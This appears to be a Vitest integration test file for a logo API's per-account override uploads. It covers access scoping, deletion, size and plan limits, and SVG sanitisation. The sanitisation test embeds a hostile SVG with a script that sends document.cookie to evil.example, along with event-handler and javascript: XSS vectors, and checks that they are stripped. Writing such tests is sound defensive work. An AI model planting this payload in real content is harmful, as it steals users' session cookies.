// Accounts' own logos through HTTP on a listening origin: served to that account's keys only, with the upload's
// bad inputs answered by a 400 or 413 that names what was wrong.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { listen, type RunningServer } from '../../../server/listen.ts';
import { TWENTY_SECONDS_INTO_A_MINUTE } from '../../helpers/clock.ts';
import { bodyOf, MAGIC, pixelsOf, redShare } from '../../helpers/images.ts';
import { createTestOrigin, type TestOrigin } from '../../helpers/origin.ts';
import { blankSvg, wordmarkPng } from '../../helpers/site-images.ts';

let origin: TestOrigin;
let server: RunningServer;
let alice: string;
let bob: string;
const MAX_BYTES = 65_536;

const call = (path: string, key: string | undefined, init: RequestInit = {}) =>
  fetch(`${server.url}${path}`, { ...init, headers: { ...(key ? { 'x-api-key': key } : {}), ...(init.headers as Record<string, string>) }, signal: AbortSignal.timeout(20_000) });
const upload = (domain: string, key: string, body: Buffer | string, type = 'image/png') => call(`/v1/overrides/${domain}`, key, { method: 'PUT', body, headers: { 'content-type': type } });

beforeAll(async () => {
  origin = await createTestOrigin({ env: { DISCOVERY_MAX_BYTES: String(MAX_BYTES), TRUSTED_ORIGINS: 'app.example.com' }, now: () => TWENTY_SECONDS_INTO_A_MINUTE });
  server = await listen(origin.app, 0, '127.0.0.1', origin.fastPath);
  const a = await origin.deps.accounts.createAccount('alice@example.com', 'free');
  const b = await origin.deps.accounts.createAccount('bob@example.com', 'free');
  ({ key: alice } = await origin.deps.accounts.createKey(a.id, 'crm'));
  ({ key: bob } = await origin.deps.accounts.createKey(b.id, 'crm'));
}, 60_000);
afterAll(async () => {
  await server?.close();
  await origin?.cleanup();
});

describe('account overrides', () => {
  it("serves an account's upload to its keys only; other keys and trusted origins get the public logo", async () => {
    const asked = '/v1/stripe.com?format=png&size=128';
    const publicLogo = await call(asked, alice);
    expect(publicLogo.status).toBe(200);
    // Repeated, so the plan is memoised and the fast path would answer it from memory.
    await call(asked, bob);
    const red = await wordmarkPng('#d62828', 1280);
    const stored = await upload('www.stripe.com', alice, red, 'application/octet-stream');
    expect(stored.status).toBe(200);
    expect(await stored.json()).toMatchObject({ domain: 'stripe.com', format: 'png', width: 1024, height: 205 });

    const own = await call(asked, alice);
    expect(own.status).toBe(200);
    expect(own.headers.get('x-logo-override')).toBe('account');
    expect(own.headers.get('x-logo-domain')).toBe('stripe.com');
    expect(own.headers.get('cache-control')).toMatch(/private/);
    const image = await bodyOf(own);
    const pixels = await pixelsOf(image);
    expect(Math.max(pixels.width, pixels.height)).toBe(128);
    expect(pixels.width / pixels.height).toBeGreaterThan(4);
    expect(redShare(pixels.data)).toBeGreaterThan(0.05);
    expect(redShare((await pixelsOf(await bodyOf(publicLogo))).data)).toBeLessThan(0.01);

    for (const other of [await call(asked, bob), await call(asked, undefined, { headers: { origin: 'https://app.example.com' } })]) {
      expect(other.status).toBe(200);
      expect(other.headers.get('x-logo-override')).toBeNull();
      expect(other.headers.get('etag')).toBe(publicLogo.headers.get('etag'));
    }
    // Every variant and the asset path answer the override to its account.
    const wordmark = await call('/v1/stripe.com/logo/light/64.png', alice);
    expect(wordmark.headers.get('x-logo-override')).toBe('account');
    expect((await call('/v1/stripe.com/logo/light/64.png', bob)).headers.get('x-logo-override')).toBeNull();
  });

  it('lists and removes an override; the account is served the public logo again', async () => {
    await call('/v1/github.com?format=png', bob);
    expect((await upload('github.com', bob, await wordmarkPng('#2a9d8f', 320))).status).toBe(200);
    const listed = await call('/v1/overrides', bob);
    expect(listed.status).toBe(200);
    expect(await listed.json()).toEqual({ overrides: [expect.objectContaining({ domain: 'github.com', format: 'png' })], limit: 3 });
    expect((await call('/v1/github.com?format=png', bob)).headers.get('x-logo-override')).toBe('account');
    const removed = await call('/v1/overrides/github.com', bob, { method: 'DELETE' });
    expect(removed.status).toBe(200);
    expect((await call('/v1/github.com?format=png', bob)).headers.get('x-logo-override')).toBeNull();
    const again = await call('/v1/overrides/github.com', bob, { method: 'DELETE' });
    expect(again.status).toBe(404);
    expect(await again.json()).toMatchObject({ code: 'OVERRIDE_NOT_FOUND', message: expect.stringContaining('github.com') });
  });

  it('sanitises an SVG with script: scripts and event handlers are removed, the drawing is kept', async () => {
    await call('/v1/gitlab.com?format=svg', alice);
    const hostile =
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64" onload="alert(1)">' +
      '<script>fetch("https://evil.example/"+document.cookie)</script><path fill="#fc6d26" d="M32 4 60 58H4z" onclick="alert(3)"/>' +
      '<a xlink:href="javascript:alert(2)"><rect x="28" y="40" width="8" height="8" fill="#e24329"/></a></svg>';
    const stored = await upload('gitlab.com', alice, hostile, 'text/plain');
    expect(await stored.json()).toMatchObject({ domain: 'gitlab.com', format: 'svg' });
    const served = await call('/v1/gitlab.com?format=svg', alice);
    expect(served.headers.get('x-logo-override')).toBe('account');
    const text = (await bodyOf(served)).toString('utf8');
    expect(MAGIC.svg!(Buffer.from(text))).toBe(true);
    expect(text).not.toMatch(/<script|onload|onclick|javascript:/i);
    expect(text).toContain('#fc6d26');
  });

  it('refuses a domain the account never requested, naming it', async () => {
    const response = await upload('never-asked.example', alice, await wordmarkPng('#000000', 128));
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ code: 'DOMAIN_NOT_REQUESTED', message: expect.stringContaining('never-asked.example') });
  });

  it('refuses an oversized upload with 413, whether declared or streamed', async () => {
    await call('/v1/figma.com', alice);
    // A photograph-like PNG: random pixels do not compress.
    const big = await sharp(randomBytes(400 * 400 * 3), { raw: { width: 400, height: 400, channels: 3 } }).png().toBuffer();
    expect(big.length).toBeGreaterThan(MAX_BYTES);
    const response = await upload('figma.com', alice, big);
    expect(response.status).toBe(413);
    expect(await response.json()).toEqual({ code: 'PAYLOAD_TOO_LARGE', message: expect.stringMatching(new RegExp(`body.*${MAX_BYTES}`)) });
    const chunked = new ReadableStream({ start(controller) { controller.enqueue(big.subarray(0, 40_000)); controller.enqueue(big.subarray(40_000, 80_000)); controller.close(); } });
    const streamed = await call('/v1/overrides/figma.com', alice, { method: 'PUT', body: chunked, duplex: 'half' } as RequestInit);
    expect(streamed.status).toBe(413);
  });

  it('refuses what is not a logo: HTML sent as an image, a blank SVG, an empty body', async () => {
    await call('/v1/notion.so', alice);
    const html = '<!DOCTYPE html><html><head><title>Notion</title></head><body><img src="/logo.png"></body></html>';
    for (const [body, type, said] of [[html, 'image/png', /not an image/], [blankSvg, 'image/svg+xml', /blank/], ['', 'image/png', /empty/]] as const) {
      const response = await upload('notion.so', alice, body, type);
      expect(response.status).toBe(400);
      const error = (await response.json()) as { code: string; message: string };
      expect(error.code).toBe('INVALID_IMAGE');
      expect(error.message).toMatch(/^body/);
      expect(error.message).toMatch(said);
    }
  });

  it("stops at the plan's limit of domains", async () => {
    const carol = await origin.deps.accounts.createAccount('carol@example.com', 'free');
    const { key } = await origin.deps.accounts.createKey(carol.id, 'crm');
    const mark = await wordmarkPng('#264653', 200);
    for (const domain of ['stripe.com', 'github.com', 'gitlab.com', 'figma.com']) await call(`/v1/${domain}`, key);
    for (const domain of ['stripe.com', 'github.com', 'gitlab.com']) expect((await upload(domain, key, mark)).status).toBe(200);
    const fourth = await upload('figma.com', key, mark);
    expect(fourth.status).toBe(403);
    expect(await fourth.json()).toMatchObject({ code: 'PLAN_LIMIT_REACHED', message: expect.stringContaining('figma.com') });
    // Replacing one of the three is not a fourth.
    expect((await upload('gitlab.com', key, await wordmarkPng('#e76f51', 200))).status).toBe(200);
  });

  it('needs an API key: a trusted origin cannot upload', async () => {
    const response = await call('/v1/overrides/stripe.com', undefined, { method: 'PUT', body: await wordmarkPng('#000', 64), headers: { origin: 'https://app.example.com' } });
    expect(response.status).toBe(401);
    expect(await response.json()).toMatchObject({ code: 'UNAUTHORIZED' });
  });
});
